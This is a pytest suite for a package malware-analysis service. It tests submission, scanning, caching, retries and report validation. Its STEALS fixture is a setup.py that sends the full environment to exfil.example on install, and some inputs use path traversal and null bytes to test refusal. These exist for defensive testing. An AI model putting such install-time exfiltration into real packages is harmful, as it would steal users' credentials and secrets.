"""From a purl to a stored report, with the real scanner in a child process and an index on loopback."""

from __future__ import annotations

import dataclasses
import datetime
import json

import pytest
from django.utils import timezone
from packageurl import PackageURL

from packamal.errors import TargetError
from packamal.executors.base import Ending, Outcome
from packamal.executors.process import ProcessExecutor
from packamal.server.accounts.models import AuditEvent
from packamal.server.analyses import transitions
from packamal.server.analyses.claims import FRESH, Asker
from packamal.server.analyses.models import Analysis
from packamal.server.analyses.states import Lane, State
from packamal.server.pipeline import parts
from packamal.server.pipeline.reconcile import reconcile
from packamal.server.pipeline.resolving import is_exact
from packamal.server.pipeline.run import run_next
from packamal.server.pipeline.settle import settle
from packamal.server.pipeline.submit import submit

pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""


@pytest.fixture
def queued(index):
    return submit(index.add("small", "1.0"), Asker(), Lane.INTERACTIVE).analysis


@pytest.fixture
def lease(queued):
    return transitions.start(queued.pk, "w", 10)


def test_a_package_becomes_a_stored_report(index):
    analysis = submit(index.add("greedy", "1.0", STEALS), Asker(), Lane.INTERACTIVE).analysis
    assert run_next("worker")
    analysis.refresh_from_db()
    assert analysis.state == State.DONE, (analysis.error, analysis.attempts.get().detail)
    assert analysis.level in ("suspicious", "malicious")
    report = json.loads(parts.store().get(analysis.report_id))
    assert report["purl"] == "pkg:pypi/greedy@1.0"
    assert analysis.rules.count() >= 1
    assert any("exfil" in value for value in analysis.indicators.values_list("value", flat=True))
    assert analysis.artifacts.get().filename == "greedy-1.0.tar.gz"
    assert not run_next("worker")


def test_no_version_means_the_newest_and_the_worker_finds_which(index):
    index.add("small", "1.0")
    index.add("small", "2.0")
    analysis = submit("pkg:pypi/Small", Asker(), Lane.BULK).analysis
    assert (analysis.requested, analysis.purl, index.asked) == ("pkg:pypi/small", "pkg:pypi/small", [])
    assert run_next("w")
    analysis.refresh_from_db()
    assert (analysis.state, analysis.purl, analysis.version) == (State.DONE, "pkg:pypi/small@2.0", "2.0")
    assert submit("pkg:pypi/small@2.0", Asker(), Lane.BULK).analysis.pk == analysis.pk
    assert AuditEvent.objects.filter(action="analysis.submit").count() == 1


@pytest.fixture
def count_scans(monkeypatch):
    """How often the scanner was started; it still runs."""
    started = []
    run = ProcessExecutor.run
    monkeypatch.setattr(ProcessExecutor, "run", lambda *words: started.append(1) or run(*words))
    return started


def test_an_old_answer_is_asked_for_anew_and_not_scanned_again(index, count_scans):
    purl = index.add("small", "1.0")
    first = submit(purl, Asker(), Lane.BULK).analysis
    run_next("w")
    Analysis.objects.update(created_at=timezone.now() - FRESH)
    second = submit(purl, Asker(), Lane.BULK).analysis
    assert second.pk != first.pk
    run_next("w")
    first.refresh_from_db()
    second.refresh_from_db()
    assert (second.state, second.level, second.report_id) == (State.DONE, first.level, first.report_id)
    assert second.artifacts.get() == first.artifacts.get()
    assert len(count_scans) == 1


def test_other_bytes_under_the_same_version_are_scanned(index, count_scans):
    purl = index.add("small", "1.0")
    submit(purl, Asker(), Lane.BULK)
    run_next("w")
    index.add("small", "1.0", STEALS)
    Analysis.objects.update(created_at=timezone.now() - FRESH)
    second = submit(purl, Asker(), Lane.BULK).analysis
    run_next("w")
    second.refresh_from_db()
    assert (second.level, len(count_scans)) == ("malicious", 2)


def test_a_forced_one_is_scanned_though_there_is_an_answer(index, count_scans):
    purl = index.add("small", "1.0")
    submit(purl, Asker(), Lane.BULK)
    run_next("w")
    submit(purl, Asker(), Lane.BULK, is_forced=True)
    run_next("w")
    assert len(count_scans) == 2


@pytest.mark.parametrize(
    ("purl", "expected"),
    [
        ("pkg:pypi/x@1", True), ("pkg:pypi/x", False), ("pkg:npm/x", False), ("pkg:npm/x@1.2.3", True),
        ("pkg:npm/x@1.2.3-rc.1+b", True), ("pkg:npm/x@latest", False), ("pkg:npm/x@1.2", False),
        ("pkg:npm/x@^1.2.3", False),
    ],
)  # fmt: skip
def test_an_exact_version_says_by_itself_what_is_meant(purl, expected):
    assert is_exact(PackageURL.from_string(purl)) is expected


@pytest.mark.parametrize("text", ["", "/etc/passwd", ".", "small", "pkg:pypi/..%2Fx", "pkg:gem/x@1", "pkg:npm/a%00b"])
def test_what_is_no_package_is_refused_before_anything_is_asked(index, text):
    with pytest.raises(TargetError):
        submit(text, Asker(), Lane.BULK)
    assert index.asked == []


def test_nothing_is_taken_while_no_report_can_be_stored(queued, settings, tmp_path):
    """Three attempts would be over soon, and each of them would have been paid for."""
    settings.PACKAMAL = dataclasses.replace(settings.PACKAMAL, data_dir=tmp_path)
    (tmp_path / "results").write_bytes(b"")
    assert not run_next("w")
    queued.refresh_from_db()
    assert (queued.state, queued.attempt) == (State.QUEUED, 0)
    (tmp_path / "results").unlink()
    assert run_next("w")
    queued.refresh_from_db()
    assert (queued.state, queued.attempt) == (State.DONE, 1)


def test_a_package_that_is_not_there_fails_once_and_for_all(index):
    analysis = submit("pkg:pypi/nothing@1", Asker(), Lane.BULK).analysis
    run_next("w")
    analysis.refresh_from_db()
    assert (analysis.state, analysis.error_category, analysis.claim) == (State.FAILED, "not_found", None)


OF_THE_GROUND = {Ending.LOST, Ending.STOPPED, Ending.UNSAFE, Ending.NO_IMAGE}
"""Another try may do better; all else would end the same way."""


@pytest.mark.parametrize("ending", [ending for ending in Ending if ending is not Ending.REPORTED])
def test_every_other_ending_ends_the_attempt(queued, lease, ending, tmp_path):
    assert settle(lease, Outcome(ending, detail="why"), parts.store())
    queued.refresh_from_db()
    assert queued.state == (State.QUEUED if ending in OF_THE_GROUND else State.FAILED)
    assert queued.attempts.get().detail == "why"
    assert queued.level == ""


REPORT = {
    "target": "x", "purl": "pkg:pypi/small@1.0", "verdict": {"level": "clean", "score": 0},
    "artifacts": [{"purl": "pkg:pypi/small@1.0", "filename": "f", "sha256": "a" * 64, "size_bytes": 1}],
    "schema_version": "1.0",
}  # fmt: skip


@pytest.mark.parametrize(
    "content",
    [
        b"", b"null", b"{", b"[" * 100_000, json.dumps({**REPORT, "purl": "pkg:pypi/other@1.0"}).encode(),
        json.dumps({**REPORT, "more": 1}).encode(), json.dumps({**REPORT, "findings": None}).encode(),
        json.dumps({**REPORT, "verdict": {"level": "clean", "score": 101}}).encode(),
    ],
)  # fmt: skip
def test_what_is_no_report_on_this_package_is_not_taken(queued, lease, content):
    assert settle(lease, Outcome(Ending.REPORTED, content), parts.store())
    queued.refresh_from_db()
    assert (queued.state, queued.error_category, queued.report) == (State.FAILED, "result_invalid", None)


def test_a_report_that_judged_nothing_never_reads_as_an_answer(queued, lease):
    content = json.dumps({**REPORT, "artifacts": []}).encode()
    assert settle(lease, Outcome(Ending.REPORTED, content), parts.store())
    queued.refresh_from_db()
    assert (queued.state, queued.level) == (State.QUEUED, "")


def test_a_scan_that_delivered_its_report_itself_has_ended_already(queued, lease):
    assert settle(lease, Outcome(Ending.REPORTED, json.dumps(REPORT).encode()), parts.store())
    assert not settle(lease, Outcome(Ending.DELIVERED), parts.store())
    queued.refresh_from_db()
    assert (queued.state, queued.level) == (State.DONE, "clean")


def test_one_that_only_says_so_is_no_answer(queued, lease):
    assert settle(lease, Outcome(Ending.DELIVERED), parts.store())
    queued.refresh_from_db()
    assert (queued.state, queued.error_category, queued.level) == (State.FAILED, "result_missing", "")


def test_a_result_that_comes_twice_is_taken_once(queued, lease):
    outcome = Outcome(Ending.REPORTED, json.dumps(REPORT).encode())
    assert settle(lease, outcome, parts.store())
    assert not settle(lease, outcome, parts.store())


def test_what_nobody_ends_is_ended(queued, lease):
    rung = []

    def hear(lane):
        rung.append(lane)
        return True

    assert reconcile(hear).lost == 0
    Analysis.objects.filter(pk=queued.pk).update(lease_until=timezone.now() - datetime.timedelta(seconds=1))
    assert reconcile(hear).lost == 1
    queued.refresh_from_db()
    assert queued.state == State.QUEUED
    Analysis.objects.filter(pk=queued.pk).update(available_at=timezone.now())
    assert reconcile(hear).rung == 1
    assert rung == [Lane.INTERACTIVE]


def test_when_nobody_can_hear_it_the_bell_is_rung_once_and_no_more(index):
    for number in range(3):
        submit(index.add("small", f"{number}.0"), Asker(), Lane.BULK)
    heard = []
    assert reconcile(heard.append).rung == 0
    assert len(heard) == 1


def test_what_takes_too_long_is_over(queued, lease):
    Analysis.objects.filter(pk=queued.pk).update(deadline_at=timezone.now() - datetime.timedelta(seconds=1))
    assert reconcile(lambda lane: True).timed_out == 1
    queued.refresh_from_db()
    assert (queued.state, queued.error_category) == (State.FAILED, "timeout")
